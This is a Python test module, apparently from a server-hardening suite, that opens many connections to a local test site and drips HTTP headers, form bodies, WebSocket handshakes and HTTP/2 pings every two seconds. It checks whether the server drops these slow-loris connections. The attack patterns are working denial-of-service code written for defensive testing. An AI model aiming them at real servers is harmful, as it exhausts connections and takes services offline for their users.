"""Connections kept alive by a few bytes every two seconds, in the ways that slowhttptest doesn't know."""

import asyncio
from collections.abc import Mapping

from attacks.attack import Verdict
from attacks.probes import FORM, H2, HOST, WEBSOCKET
from attacks.slow import PROMPT, stop_watching, watch
from attacks.victims import Site

EACH = 10
"""Connections of each kind."""
PAUSE = 2.0
LIMIT = 30.0
"""Seconds after which a connection still open counts as held; the longest time limits, 15 s and 10 s, and a margin."""

H2_START = H2 + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
H2_PING = bytes((0, 0, 8, 6, 0, 0, 0, 0, 0)) + b"attacker"

KINDS: Mapping[str, tuple[bytes, bytes]] = {
    "headers": (b"GET / HTTP/1.1\r\n", b"X: a\r\n"),
    "headers after a page": (b"GET / HTTP/1.1\r\n" + HOST + b"\r\n", b"X: a\r\n"),
    "form": (b"POST /login HTTP/1.1\r\n" + HOST + FORM + b"Content-Length: 4000\r\n\r\n", b"a"),
    "form in chunks": (
        b"POST /signup HTTP/1.1\r\n" + HOST + FORM + b"Transfer-Encoding: chunked\r\n\r\n",
        b"1\r\na\r\n",
    ),
    "multipart form": (
        b"POST /signup HTTP/1.1\r\n" + HOST + b"Content-Type: multipart/form-data; boundary=x\r\n"
        b"Content-Length: 4000\r\n\r\n--x\r\n",
        b"a",
    ),
    "body nobody reads": (b"POST / HTTP/1.1\r\n" + HOST + b"Content-Length: 4000\r\n\r\n", b"a"),
    "refused WebSocket": (b"GET / HTTP/1.1\r\n" + HOST + WEBSOCKET + b"Sec-WebSocket-Version: 13\r\n\r\n", b"a"),
    "malformed WebSocket": (b"GET / HTTP/1.1\r\n" + HOST + WEBSOCKET + b"Sec-WebSocket-Version: 99\r\n\r\n", b"a"),
    "HTTP/2 pings": (H2_START, H2_PING),
    "HTTP/2 after upgrade": (b"GET / HTTP/1.1\r\n" + HOST + b"Upgrade: h2c\r\n\r\n" + H2_START, H2_PING),
}
"""What to send first, and what again and again."""


async def run(site: Site) -> Verdict:
    """Open all connections and see which the server has ended within the limit."""
    watching = asyncio.create_task(watch(site))
    names = [name for name in KINDS for _ in range(EACH)]
    ended = await asyncio.gather(*(_is_ended(site, *KINDS[name]) for name in names))
    slowest = await stop_watching(watching)
    held = sorted({name for name, over in zip(names, ended, strict=True) if not over})
    finding = f"held open: {', '.join(held)}" if held else "all dropped"
    return Verdict(bool(held) or slowest > PROMPT, len(names), f"{finding}; / in at most {slowest * 1000:.0f} ms")


async def _is_ended(site: Site, first: bytes, again: bytes) -> bool:
    reader, writer = await asyncio.open_connection("127.0.0.1", site.port)
    dripping = asyncio.create_task(_drip(writer, first, again))
    try:
        async with asyncio.timeout(LIMIT):
            while await reader.read(65536):
                pass
    except TimeoutError:
        return False
    except ConnectionError:
        return True
    else:
        return True
    finally:
        dripping.cancel()
        writer.close()


async def _drip(writer: asyncio.StreamWriter, first: bytes, again: bytes) -> None:
    writer.write(first)
    while not writer.is_closing():
        await asyncio.sleep(PAUSE)
        writer.write(again)
